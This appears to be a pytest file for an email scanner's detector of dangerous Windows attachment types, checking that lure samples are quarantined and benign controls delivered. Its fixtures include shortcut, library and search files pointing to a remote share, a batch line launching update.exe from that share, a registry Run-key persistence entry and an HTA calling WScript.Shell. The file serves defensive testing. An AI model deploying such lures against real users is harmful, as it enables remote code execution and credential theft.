"""File types by what Windows does with them: the table, the windows_types detector, and every
row of issue #11's table through the whole engine (attack quarantined, benign control delivered).

Every sample is built here, in memory: shortcut texts, a CHM and a registry file header, an MSIX
(a ZIP with AppxManifest.xml), a DLL exporting xlAutoOpen, a OneNote section embedding an HTA,
an ISO 9660 image written by libarchive, VHD and VHDX signatures.
"""

from __future__ import annotations

import asyncio
import struct
import sys
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from helpers_detectors import PDF_BYTES, PNG_BYTES, attachment, by_symbol, make_message, run
from test_detectors_documents_samples import dll, onenote

from mailward.config import Settings
from mailward.data.windows_types import (
    WINDOWS_DOES,
    extensions_that,
    type_for_extension,
    windows_file_types,
)
from mailward.detectors.attachments import DEFAULT_DANGEROUS_EXTENSIONS
from mailward.detectors.windows_types import WindowsTypeDetector, onenote_names
from mailward.engine.pipeline import Engine
from mailward.model import Action, Envelope, Finding

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "attachments"))
from helpers_archives import build, zipped

ENV = Envelope(
    mail_from="billing@supplier.example.net", rcpt_tos=("alice@example.com",), helo="mx.test"
)
SHARE_URL = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\n"
WEB_URL = b"[InternetShortcut]\r\nURL=https://portal.example.net/docs\r\n"
ICON_URL = (
    b"[InternetShortcut]\r\nURL=https://portal.example.net/\r\n"
    b"IconFile=\\\\198.51.100.7\\icons\\pdf.ico\r\nIconIndex=1\r\n"
)
LIBRARY = (
    b'<?xml version="1.0" encoding="UTF-8"?>\r\n<libraryDescription '
    b'xmlns="http://schemas.microsoft.com/windows/2009/library"><name>Documents</name>'
    b"<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>"
    b"<url>\\\\198.51.100.7@80\\DavWWWRoot\\Invoices</url></simpleLocation>"
    b"</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"
)
SEARCH_URI = b"search-ms:query=invoice&crumb=location:\\\\198.51.100.7@80\\share&displayname=Inv"
SEARCH_XML = (
    b'<?xml version="1.0"?>\r\n<persistedQuery version="1.0"><viewInfo viewMode="details"/>'
    b'<query><scope><include path="\\\\198.51.100.7\\share"/></scope></query></persistedQuery>'
)
SCF = b"[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\share\\x.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n"
CHM = b"ITSF\x03\x00\x00\x00\x60\x00\x00\x00\x01\x00\x00\x00" + bytes(200)
REG = (
    b"Windows Registry Editor Version 5.00\r\n\r\n"
    b"[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
    b'"Updater"="C:\\\\Users\\\\Public\\\\u.exe"\r\n'
)
REG_UTF16 = "\ufeff".encode("utf-16-le") + REG.decode().encode("utf-16-le")
MSIX = zipped(
    ("AppxManifest.xml", b'<?xml version="1.0"?><Package xmlns="x"><Identity Name="a"/></Package>'),
    ("AppxBlockMap.xml", b"<BlockMap/>"),
    ("app/run.ps1", b"Write-Host hi\n"),
)
HTA = b'<html><head><hta:application id="x"/><script>new ActiveXObject("WScript.Shell")</script>'


def iso(*files: tuple[str, bytes]) -> bytes:
    """An ISO 9660 image written by libarchive (a "CD001" volume descriptor at 0x8001)."""
    return build("iso9660", files)


def vhd(payload: bytes = bytes(4096)) -> bytes:
    """A fixed VHD: the disk's bytes, then the 512-byte footer starting with "conectix"."""
    footer = bytearray(512)
    footer[0:8] = b"conectix"
    footer[8:12] = struct.pack(">I", 2)
    footer[12:16] = struct.pack(">I", 0x00010000)
    footer[60:64] = struct.pack(">I", 2)  # fixed disk
    return payload + bytes(footer)


def vhdx() -> bytes:
    return b"vhdxfile" + "mailward test".encode("utf-16-le") + bytes(65536 - 34)


BAT = b"@echo off\r\nstart \"\" \\\\198.51.100.7\\s\\update.exe\r\n"


def onenote_with_hta() -> bytes:
    """A OneNote section embedding an HTA, with the embedded file's name recorded (UTF-16)."""
    return onenote(PNG_BYTES, HTA) + "invoice.hta".encode("utf-16-le") + bytes(8)


def onenote_with_bat() -> bytes:
    """The 2023 lure: a picture and a batch file behind it, the file's name recorded (UTF-16).
    Nothing in the batch file is script code the attachments detector knows: only the
    OneNote reading finds it."""
    return onenote(PNG_BYTES, BAT) + b"\x10\x00\x00\x00" + "Open.bat".encode("utf-16-le")


# --- the table ---------------------------------------------------------------------------


def test_table_loads_and_covers_the_required_types() -> None:
    rows = windows_file_types()
    assert rows and {row.windows_does for row in rows} <= set(WINDOWS_DOES)
    expected = {
        "url": "shell_handler", "library-ms": "shell_handler", "search-ms": "shell_handler",
        "searchconnector-ms": "shell_handler", "xll": "runs_code", "chm": "runs_code",
        "reg": "runs_code", "appx": "runs_code", "appxbundle": "runs_code", "msix": "runs_code",
        "one": "container", "onepkg": "container", "iso": "mounts", "img": "mounts",
        "vhd": "mounts", "vhdx": "mounts",
    }  # fmt: skip
    for ext, does in expected.items():
        row = type_for_extension(ext)
        assert row is not None and row.windows_does == does, ext
        assert row.references and row.what, ext
    assert type_for_extension(".URL") is type_for_extension("url")
    assert type_for_extension("pdf") is None and type_for_extension("zip") is None


def test_the_docs_page_lists_every_row() -> None:
    page = (Path(__file__).resolve().parents[2] / "docs" / "windows-file-types.md").read_text()
    for row in windows_file_types():
        assert row.name in page, row.id
        for ext in row.extensions:
            assert f".{ext}" in page, ext


def test_old_dangerous_extensions_stay_and_the_default_list_is_the_tables() -> None:
    old = {"exe", "scr", "com", "pif", "cpl", "js", "jse", "vbs", "vbe", "wsf", "wsh", "hta",
           "ps1", "bat", "cmd", "msi", "jar", "lnk"}  # fmt: skip
    assert old <= set(DEFAULT_DANGEROUS_EXTENSIONS)
    assert extensions_that("runs_code") == DEFAULT_DANGEROUS_EXTENSIONS
    assert not {"url", "iso", "one", "py", "zip", "xz", "pdf"} & set(DEFAULT_DANGEROUS_EXTENSIONS)


# --- the windows_types detector ------------------------------------------------------------


def findings(*atts: Any) -> dict[str, Finding]:
    detector = WindowsTypeDetector(WindowsTypeDetector.Settings())
    return by_symbol(run(detector, make_message(attachments=atts)))


@pytest.mark.parametrize(
    ("name", "content", "target"),
    [
        ("invoice.url", SHARE_URL, "file://198.51.100.7/share/invoice.exe"),
        ("invoice.url", ICON_URL, "\\\\198.51.100.7\\icons\\pdf.ico"),
        ("Documents.library-ms", LIBRARY, "\\\\198.51.100.7@80\\DavWWWRoot\\Invoices"),
        ("Invoices.searchConnector-ms", LIBRARY.replace(b"<libraryDescription", b"<x"), "Dav"),
        ("find.search-ms", SEARCH_URI, "\\\\198.51.100.7@80\\share"),
        ("find.search-ms", SEARCH_XML, "\\\\198.51.100.7\\share"),
        ("desktop.scf", SCF, "\\\\198.51.100.7\\share\\x.ico"),
        ("report.txt", SHARE_URL, "file://198.51.100.7"),  # content decides, not the name
    ],
)
def test_shell_shortcut_hits_with_its_target_as_evidence(
    name: str, content: bytes, target: str
) -> None:
    hit = findings(attachment(name, content))["ATT_SHELL_SHORTCUT"]
    assert any(target in e for e in hit.evidence), hit.evidence
    assert hit.evidence[0] == name
    assert "pointing to" in hit.explanation


def test_shell_shortcut_by_name_alone_hits_when_the_content_cannot_be_read() -> None:
    hit = findings(attachment("Documents.library-ms", b"\x00\x01garbage"))["ATT_SHELL_SHORTCUT"]
    assert "could not be read" in hit.explanation


@pytest.mark.parametrize(
    "content",
    [
        WEB_URL,
        # as Internet Explorer saved them: a [DEFAULT] section first
        b"[DEFAULT]\r\nBASEURL=https://portal.example.net/docs\r\n[InternetShortcut]\r\n"
        b"URL=https://portal.example.net/docs\r\nModified=E0824ED43364C201DE\r\n",
    ],
)
def test_internet_shortcut_to_a_web_page_is_only_a_web_shortcut(content: bytes) -> None:
    found = findings(attachment("docs.url", content))
    assert set(found) == {"ATT_WEB_SHORTCUT"}
    assert "https://portal.example.net/docs" in found["ATT_WEB_SHORTCUT"].evidence


def test_onenote_embedding_a_script_hits_and_names_it() -> None:
    hit = findings(attachment("invoice.one", onenote_with_hta()))["ATT_ONENOTE_EMBEDDED"]
    assert "HTML application" in hit.explanation
    assert 'file "invoice.hta"' in hit.evidence


def test_onenote_embedding_a_batch_file_hits_by_its_recorded_name() -> None:
    hit = findings(attachment("invoice.one", onenote_with_bat()))["ATT_ONENOTE_EMBEDDED"]
    assert 'file "Open.bat"' in hit.evidence


def test_onenote_names_need_an_extension_windows_runs() -> None:
    recorded = b"\x01\x00\x00\x00" + "invoice.hta".encode("utf-16-le") + b"\x00\x00"
    assert onenote_names(recorded) == ["invoice.hta"]
    assert onenote_names(b"\x07" + recorded) == ["invoice.hta"]  # at an odd offset too
    assert onenote_names("notes.docx photo.png run.batch".encode("utf-16-le")) == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("notes.one", onenote(PNG_BYTES)),  # a notebook with a picture: DOC_ONENOTE's concern
        ("notes.one", onenote()),
        ("report.pdf", PDF_BYTES),
        ("notes.txt", b"Save the page as a shortcut: [InternetShortcut] URL=https://x.example\n"),
        ("photo.png", PNG_BYTES),
        ("links.txt", b"URL=file://server/share\r\nsearch-ms is a protocol\r\n"),
        ("notes.txt", b"Search: how to map a network drive\r\n"),
        ("notes.txt", b"search:everything-about-shares\r\n"),
    ],
)
def test_benign_files_miss(name: str, content: bytes) -> None:
    assert findings(attachment(name, content)) == {}


# --- every row of the table through the engine ------------------------------------


def message(name: str | None, content: bytes, body: str = "Please find the file attached.") -> bytes:
    msg = EmailMessage()
    msg["From"] = "Billing <billing@supplier.example.net>"
    msg["To"] = "alice@example.com"
    msg["Subject"] = "Documents for this month"
    msg["Message-ID"] = "<m1@supplier.example.net>"
    msg.set_content(body)
    if name is not None:
        msg.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return msg.as_bytes()


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine(Settings())


def scan(engine: Engine, raw: bytes) -> tuple[Action, set[str]]:
    outcome = asyncio.run(engine.scan(raw, ENV))
    return outcome.verdict.action, set(outcome.result.symbols)


ATTACKS: dict[str, tuple[str, bytes, str]] = {
    ".url": ("invoice.url", SHARE_URL, "ATT_SHELL_SHORTCUT"),
    ".library-ms": ("Documents.library-ms", LIBRARY, "ATT_SHELL_SHORTCUT"),
    ".search-ms": ("Invoices.search-ms", SEARCH_URI, "ATT_SHELL_SHORTCUT"),
    ".xll": ("report.xll", dll("xlAutoOpen"), "ATT_EXECUTABLE"),
    ".chm": ("manual.chm", CHM, "ATT_EXECUTABLE"),
    ".chm renamed": ("manual.dat", CHM, "ATT_EXECUTABLE"),
    ".reg": ("fix.reg", REG, "ATT_EXECUTABLE"),
    ".reg UTF-16 renamed": ("settings.dat", REG_UTF16, "ATT_EXECUTABLE"),
    ".appx": ("update.appx", MSIX, "ATT_EXECUTABLE"),
    ".msix renamed": ("update.zip", MSIX, "ATT_EXECUTABLE"),
    "OneNote": ("invoice.one", onenote_with_bat(), "ATT_ONENOTE_EMBEDDED"),
    "OneNote with an HTA": ("invoice.one", onenote_with_hta(), "ATT_ONENOTE_EMBEDDED"),
    ".iso": ("scan.iso", iso(("readme.txt", b"hello\n")), "ATT_CONTAINER_IMAGE"),
    ".img": ("scan.img", iso(("readme.txt", b"hello\n")), "ATT_CONTAINER_IMAGE"),
    ".img raw": ("disk.img", bytes(1024), "ATT_CONTAINER_IMAGE"),
    ".vhd": ("disk.vhd", vhd(), "ATT_CONTAINER_IMAGE"),
    ".vhd renamed": ("disk.bin", vhd(), "ATT_CONTAINER_IMAGE"),
    ".vhdx": ("disk.vhdx", vhdx(), "ATT_CONTAINER_IMAGE"),
    ".vhdx renamed": ("disk.dat", vhdx(), "ATT_CONTAINER_IMAGE"),
    ".url in a zip": ("docs.zip", zipped(("a/invoice.url", SHARE_URL)), "ATT_ARCHIVE_EXECUTABLE"),
    ".chm in a zip": ("docs.zip", zipped(("manual.chm", CHM)), "ATT_ARCHIVE_EXECUTABLE"),
    ".library-ms in an ISO": ("d.iso", iso(("Docs.library-ms", LIBRARY)), "ATT_ARCHIVE_EXECUTABLE"),
    ".reg in an ISO": ("d.iso", iso(("fix.reg", REG)), "ATT_ARCHIVE_EXECUTABLE"),
    "OneNote in a zip": ("n.zip", zipped(("invoice.one", onenote_with_bat())),
                         "ATT_ARCHIVE_EXECUTABLE"),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(ATTACKS))
def test_attack_row_is_quarantined(engine: Engine, case: str) -> None:
    name, content, symbol = ATTACKS[case]
    action, symbols = scan(engine, message(name, content))
    assert symbol in symbols, symbols
    assert action.severity >= Action.QUARANTINE.severity, (action, symbols)


CONTROLS: dict[str, tuple[str | None, bytes, str]] = {
    "a PDF": ("report.pdf", PDF_BYTES, ""),
    "a text file": ("notes.txt", b"Minutes of the meeting.\n", ""),
    "a PNG": ("photo.png", PNG_BYTES, ""),
    "a zip of a text file": ("docs.zip", zipped(("notes.txt", b"hello\n")), ""),
    "a .url-looking body": (None, b"", "Create a shortcut: [InternetShortcut]\nURL=file://x"),
    "a OneNote with a picture": ("notes.one", onenote(PNG_BYTES), ""),
}


@pytest.mark.parametrize("case", sorted(CONTROLS))
def test_benign_control_is_delivered(engine: Engine, case: str) -> None:
    name, content, body = CONTROLS[case]
    raw = message(name, content, body) if body else message(name, content)
    action, symbols = scan(engine, raw)
    assert action.severity <= Action.TAG.severity, (action, symbols)
    assert not symbols & {"ATT_SHELL_SHORTCUT", "ATT_CONTAINER_IMAGE", "ATT_EXECUTABLE",
                          "ATT_ONENOTE_EMBEDDED", "ATT_ARCHIVE_EXECUTABLE"}  # fmt: skip


def test_web_shortcut_is_not_quarantined(engine: Engine) -> None:
    action, symbols = scan(engine, message("docs.url", WEB_URL))
    assert "ATT_WEB_SHORTCUT" in symbols
    assert action.severity <= Action.TAG.severity
